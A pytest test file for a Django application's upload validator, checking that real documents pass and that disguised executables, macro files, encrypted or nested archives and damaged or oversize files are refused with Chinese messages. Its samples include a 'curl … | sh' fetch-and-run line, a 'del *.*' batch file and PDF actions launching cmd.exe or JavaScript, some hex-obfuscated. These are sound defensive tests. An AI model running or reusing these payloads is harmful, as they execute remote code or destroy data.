"""Attachments are judged by their content: real documents pass, everything else is refused
with a Chinese message that names the file, whatever the file is called."""

import io
import time
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from reportlab.pdfgen import canvas

from civicgrid.applications.attachments import (
    AttachmentKind,
    accept_attribute,
    check_attachment,
    kinds_text,
)

MB = 1024 * 1024
EVERYTHING = {"pdf", "image", "xlsx", "docx", "zip"}


def pdf_bytes(pages: int = 1) -> bytes:
    buffer = io.BytesIO()
    document = canvas.Canvas(buffer)
    for page in range(pages):
        document.drawString(72, 720, f"Project proposal, page {page + 1}")
        document.showPage()
    document.save()
    return buffer.getvalue()


def image_bytes(fmt: str, size: tuple[int, int] = (120, 80)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, fmt)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["构成项", "金额（万元）"])
    sheet.append(["设备", 1200])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCX_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>项目建议书</w:t></w:r></w:p></w:body></w:document>"
)


def zip_bytes(entries: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_bytes(**extra: bytes | str) -> bytes:
    """A minimal, valid Word document, as Word writes its three required parts."""
    return zip_bytes(
        {
            "[Content_Types].xml": DOCX_CONTENT_TYPES,
            "_rels/.rels": DOCX_RELS,
            "word/document.xml": DOCX_DOCUMENT,
            **extra,
        }
    )


def refusal(data, name, kinds=EVERYTHING, max_bytes=10 * MB, **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_attachment(data, name=name, kinds=kinds, max_bytes=max_bytes, **options)
    return caught.value


# --- real documents pass ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "kind"),
    [
        (pdf_bytes, "项目建议书.pdf", AttachmentKind.PDF),
        (lambda: image_bytes("PNG"), "现场照片.png", AttachmentKind.PNG),
        (lambda: image_bytes("JPEG"), "现场照片.JPG", AttachmentKind.JPEG),
        (lambda: image_bytes("JPEG"), "现场照片.jpeg", AttachmentKind.JPEG),
        (xlsx_bytes, "投资构成.xlsx", AttachmentKind.XLSX),
        (docx_bytes, "项目建议书.docx", AttachmentKind.DOCX),
        (lambda: zip_bytes({"图纸/总平面图.pdf": pdf_bytes()}), "图纸.zip", AttachmentKind.ZIP),
    ],
)
def test_a_real_document_is_accepted_as_what_it_is(make, name, kind):
    assert check_attachment(make(), name=name, kinds=EVERYTHING, max_bytes=10 * MB) is kind


def test_an_uploaded_file_is_read_and_left_at_its_start():
    upload = SimpleUploadedFile("项目建议书.pdf", pdf_bytes(), content_type="application/pdf")
    upload.read(10)

    kind = check_attachment(upload, name=upload.name, kinds={"pdf"}, max_bytes=MB)

    assert kind is AttachmentKind.PDF
    assert kind.content_type == "application/pdf"
    assert upload.tell() == 0


def test_a_label_passed_as_name_falls_back_to_the_uploaded_file_name_and_labels_messages():
    upload = SimpleUploadedFile("照片.png", image_bytes("PNG"))

    assert (
        check_attachment(upload, name="现场照片", kinds={"image"}, max_bytes=MB)
        is AttachmentKind.PNG
    )

    renamed = SimpleUploadedFile("照片.pdf", image_bytes("PNG"))
    error = refusal(renamed, "现场照片", kinds={"pdf"})
    assert error.messages[0].startswith("现场照片：文件「照片.pdf」的内容是 PNG 图片")


# --- executables, whatever they are called ---------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"PE\x00\x00", "项目建议书.pdf"),
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100, "现场照片.png"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100, "投资构成.xlsx"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "说明.txt"),
        (b"#!/usr/bin/env python3\nimport os\n", "说明"),
        (pdf_bytes(), "项目建议书.pdf.exe"),
        (b"WScript.Echo('hi')", "承诺书.js"),
        (b"@echo off\r\ndel *.*\r\n", "承诺书.BAT"),
    ],
)
def test_an_executable_or_script_is_refused_even_when_renamed(data, name):
    error = refusal(data, name)

    assert error.code == "executable"
    assert "是可执行程序或脚本，出于安全原因不能上传" in error.messages[0]
    assert "文件「" in error.messages[0]


def test_a_zip_holding_an_executable_is_refused_naming_the_entry():
    archive = zip_bytes({"说明.pdf": pdf_bytes(), "工具/setup.exe": b"MZ" + b"\x00" * 64})

    error = refusal(archive, "材料.zip")

    assert error.code == "executable"
    assert "“工具/setup.exe”" in error.messages[0]


def test_a_zip_holding_an_executable_under_an_innocent_name_is_refused_too():
    archive = zip_bytes({"照片.jpg": b"\x7fELF" + b"\x00" * 64})

    assert refusal(archive, "材料.zip").code == "executable"


def test_an_office_document_with_macros_is_refused():
    with_vba = docx_bytes(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64})
    macro_type = zip_bytes(
        {
            "[Content_Types].xml": DOCX_CONTENT_TYPES.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            "word/document.xml": DOCX_DOCUMENT,
        }
    )

    assert refusal(with_vba, "建议书.docx").code == "macro"
    assert refusal(macro_type, "建议书.docx").code == "macro"


def test_a_docx_with_an_embedded_ole_object_is_still_a_docx():
    embedded = docx_bytes(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64})

    assert (
        check_attachment(embedded, name="a.docx", kinds={"docx"}, max_bytes=MB)
        is AttachmentKind.DOCX
    )


def test_an_encrypted_or_nested_archive_is_refused():
    encrypted = bytearray(zip_bytes({"a.pdf": pdf_bytes()}))
    encrypted[6] |= 0x1  # the local header's "encrypted" flag
    central = encrypted.rfind(b"PK\x01\x02")
    encrypted[central + 8] |= 0x1  # and the central directory's
    nested = zip_bytes({"inner.zip": zip_bytes({"a.exe": b"MZ"})})

    assert refusal(bytes(encrypted), "材料.zip").code == "encrypted"
    assert refusal(nested, "材料.zip").code == "nested_archive"


def with_object(document: bytes, body: bytes) -> bytes:
    """The PDF with one more object before its cross-reference table (enough for a reader)."""
    at = document.rindex(b"xref")
    return document[:at] + b"99 0 obj\n" + body + b"\nendobj\n" + document[at:]


@pytest.mark.parametrize(
    "action",
    [
        b"<< /Type /Action /S /JavaScript /JS (app.launchURL('http://example.invalid')) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /J#61vaScript /JS (this.print()) >>",  # #61 is "a"
        b"<< /S /#4C#61unch /F (calc.exe) >>",
    ],
)
def test_a_pdf_that_would_run_a_script_or_program_is_refused(action):
    error = refusal(with_object(pdf_bytes(), action), "项目建议书.pdf")

    assert error.code == "active_content"
    assert "含有打开时会自动运行的脚本或程序" in error.messages[0]


def test_a_pdf_that_only_mentions_javascript_in_its_text_passes():
    document = with_object(
        pdf_bytes(), b"<< /Title (JavaScript course) /JavaScriptish 1 /Launcher 2 >>"
    )

    assert (
        check_attachment(document, name="课程.pdf", kinds={"pdf"}, max_bytes=MB)
        is AttachmentKind.PDF
    )


# --- content against name --------------------------------------------------------------------


def test_a_png_named_pdf_is_refused_saying_what_it_really_is():
    error = refusal(image_bytes("PNG"), "营业执照.pdf")

    assert error.code == "mismatch"
    assert error.messages == [
        "文件「营业执照.pdf」的内容是 PNG 图片，与扩展名 .pdf 不符。请按实际格式保存后重新上传。"
    ]


def test_an_html_page_named_pdf_is_refused():
    error = refusal(
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "通知.pdf"
    )

    assert error.code == "mismatch"
    assert error.messages == ["文件「通知.pdf」的内容不是有效的 PDF 文件，与扩展名 .pdf 不符。"]


def test_a_docx_named_xlsx_and_an_xlsx_named_zip_are_refused():
    assert refusal(docx_bytes(), "投资构成.xlsx").code == "mismatch"
    assert refusal(xlsx_bytes(), "投资构成.zip").code == "mismatch"


def test_text_with_no_known_content_is_unsupported():
    error = refusal(b"just some notes", "notes.txt", kinds={"pdf", "image"})

    assert error.code == "unsupported"
    assert "不是支持的文件类型，请上传PDF、图片（PNG、JPEG）" in error.messages[0]


def test_a_real_file_of_a_kind_the_field_does_not_take_is_refused():
    error = refusal(xlsx_bytes(), "投资构成.xlsx", kinds={"pdf"})

    assert error.code == "not_allowed"
    assert error.messages == ["文件「投资构成.xlsx」是Excel 表格（xlsx），这里只接受PDF。"]


def test_a_plain_zip_needs_zip_among_the_kinds():
    archive = zip_bytes({"a.pdf": pdf_bytes()})

    assert refusal(archive, "材料.zip", kinds={"pdf", "docx", "xlsx"}).code == "not_allowed"


def test_an_image_kind_takes_png_and_jpeg_but_a_jpeg_kind_not_png():
    assert check_attachment(image_bytes("PNG"), name="a.png", kinds={"image"}, max_bytes=MB)
    assert refusal(image_bytes("PNG"), "a.png", kinds={"jpeg"}).code == "not_allowed"


# --- damaged files ---------------------------------------------------------------------------


def test_a_pdf_cut_short_has_no_trailer_and_is_refused():
    whole = pdf_bytes(pages=3)

    error = refusal(whole[: len(whole) // 2], "项目建议书.pdf")

    assert error.code == "corrupt"
    assert "已损坏或不完整" in error.messages[0]


def test_a_truncated_or_forged_image_is_refused():
    jpeg = image_bytes("JPEG", (640, 480))
    png = image_bytes("PNG", (640, 480))
    forged_png = png[:40] + bytes(b ^ 0xFF for b in png[40:60]) + png[60:]

    assert refusal(jpeg[: len(jpeg) // 3], "照片.jpg").code == "corrupt"
    assert refusal(png[: len(png) // 2], "照片.png").code == "corrupt"
    assert refusal(forged_png, "照片.png").code == "corrupt"
    assert refusal(b"\xff\xd8\xff\xe0" + b"\x00" * 100, "照片.jpg").code == "corrupt"


def test_a_zip_with_a_broken_directory_is_refused():
    archive = zip_bytes({"a.pdf": pdf_bytes()})

    assert refusal(archive[:-30], "材料.zip").code == "corrupt"


def test_an_xlsx_whose_main_part_is_missing_is_refused():
    whole = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    entries = {info.filename: whole.read(info) for info in whole.infolist()}
    del entries["xl/workbook.xml"]

    assert refusal(zip_bytes(entries), "投资构成.xlsx").code == "corrupt"


# --- size ------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    error = refusal(b"", "项目建议书.pdf")

    assert error.code == "empty"
    assert error.messages == ["文件「项目建议书.pdf」是空文件，请重新选择。"]


def test_a_file_one_byte_over_the_limit_is_refused_and_one_at_the_limit_passes():
    document = pdf_bytes()
    limit = len(document)

    assert (
        check_attachment(document, name="a.pdf", kinds={"pdf"}, max_bytes=limit)
        is AttachmentKind.PDF
    )
    error = refusal(document + b"\n", "a.pdf", kinds={"pdf"}, max_bytes=limit)
    assert error.code == "too_large"
    assert "超过" in error.messages[0]


def test_an_oversize_upload_is_refused_by_its_size_and_reads_no_more_than_the_limit_plus_one():
    class CountingUpload(io.BytesIO):
        name = "大文件.pdf"
        size = None
        bytes_read = 0

        def read(self, n=-1):
            data = super().read(n)
            self.bytes_read += len(data)
            return data

    upload = CountingUpload(pdf_bytes() + b"\x00" * (2 * MB))

    error = refusal(upload, "大文件.pdf", max_bytes=MB)

    assert error.code == "too_large"
    assert upload.bytes_read == MB + 1

    sized = SimpleUploadedFile("大文件.pdf", b"%PDF-1.4" + b"\x00" * (3 * MB))
    assert "有 3 MB，超过 1 MB 的上限" in refusal(sized, "大文件.pdf", max_bytes=MB).messages[0]


# --- speed and helpers -----------------------------------------------------------------------


def test_a_two_megabyte_file_is_checked_in_milliseconds():
    noise = Image.effect_noise((1100, 900), 80).convert("RGB")
    buffer = io.BytesIO()
    noise.save(buffer, "JPEG", quality=92)
    jpeg = buffer.getvalue()
    document = pdf_bytes()[:-6] + b"\x00" * (2 * MB) + b"%%EOF\n"
    assert len(document) > 2 * MB

    started = time.perf_counter()
    for _round in range(5):
        check_attachment(jpeg, name="a.jpg", kinds={"image"}, max_bytes=10 * MB)
        check_attachment(document, name="a.pdf", kinds={"pdf"}, max_bytes=10 * MB)
    per_pair = (time.perf_counter() - started) / 5

    # Generous for a busy shared machine; typically a few milliseconds.
    assert per_pair < 0.25


def test_the_accept_attribute_and_kind_names_follow_the_rule():
    assert (
        accept_attribute({"image", "pdf"})
        == ".pdf,application/pdf,.png,.jpg,.jpeg,image/png,image/jpeg"
    )
    assert kinds_text({"docx", "pdf"}) == "PDF、Word 文档（docx）"
    assert AttachmentKind.JPEG.extension == ".jpg"
